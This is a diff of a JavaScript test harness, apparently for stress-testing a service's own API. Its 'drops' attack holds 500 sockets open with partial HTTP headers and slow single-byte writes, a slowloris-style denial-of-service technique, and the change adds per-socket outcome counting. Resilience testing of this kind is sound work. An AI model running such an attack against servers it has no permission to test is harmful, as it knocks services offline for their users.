@@ -35,8 +35,8 @@ const ask = (path, { agent = false, body, headers } = {}) =>
   })
 
 const open = text => {
-  const socket = connect(Number(port), hostname, () => socket.write(text))
-  socket.on('error', () => {})
+  const socket = connect(Number(port), hostname)
+  socket.on('error', () => {}).write(text)
   return socket
 }
 
@@ -88,15 +88,18 @@ const ATTACKS = {
   async drops() {
     const heads = [
       'GET /v1/partner/meta HTTP/1.1\r\nX-A: ',
-      '',
+      'GET /',
       `POST /graphql HTTP/1.1\r\nX-API-Key: ${key}\r\nContent-Type: application/json\r\nContent-Length: 99999\r\n\r\n{`,
     ]
     const sockets = await many(500, i => open(heads[i % heads.length]).resume())
     await again(async () => {
       for (const socket of sockets) socket.write('a')
-      await sleep(1)
+      await sleep(50)
     })
-    for (const socket of sockets) socket.destroy()
+    for (const socket of sockets) {
+      count(socket.connecting ? 'outside' : socket.closed ? 'cut' : 'open')
+      socket.destroy()
+    }
   },
 
   async requests() {
